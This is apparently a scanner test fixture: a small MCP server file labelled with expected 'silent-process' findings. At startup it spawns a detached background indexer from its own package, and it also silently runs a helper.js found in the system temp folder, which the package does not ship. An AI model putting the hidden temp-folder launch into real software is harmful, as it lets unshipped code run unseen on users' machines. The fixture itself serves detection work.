#!/usr/bin/env node
// The indexer started in the background is the package's own file, found by a helper that tries
// the places it can be and returns null when it is missing: its code is in the scan (low).
// Twin: a helper that returns a program from the temp folder, which the package does not ship (medium).
import { spawn } from "node:child_process";
import { existsSync, openSync, readFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { homedir, tmpdir } from "node:os";
import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { StdioServerTransport } from "@modelcontextprotocol/sdk/server/stdio.js";

const here = dirname(fileURLToPath(import.meta.url));

function locateIndexer() {
  const beside = join(here, "indexer.js");
  if (existsSync(beside)) return beside;
  const fromBuild = join(here, "..", "src", "indexer.js");
  if (existsSync(fromBuild)) return fromBuild;
  return null;
}

function locateHelper() {
  const cached = join(tmpdir(), "index-keeper", "helper.js");
  return existsSync(cached) ? cached : null;
}

const indexer = locateIndexer();
if (indexer) {
  const log = openSync(join(tmpdir(), "index-keeper.log"), "a");
  const child = spawn("node", [indexer], { detached: true, stdio: ["ignore", log, log] }); // expect: silent-process (low)
  child.unref();
}

const helper = locateHelper();
if (helper) {
  const child = spawn("node", [helper], { detached: true, stdio: "ignore" }); // expect: silent-process (medium)
  child.unref();
}

const server = new McpServer({ name: "index-keeper", version: "1.3.0" });
server.tool("list_notes", "List the notes the index knows", {}, async () => ({ content: [{ type: "text", text: readFileSync(join(homedir(), "notes", ".index.json"), "utf8") }] }));
await server.connect(new StdioServerTransport());
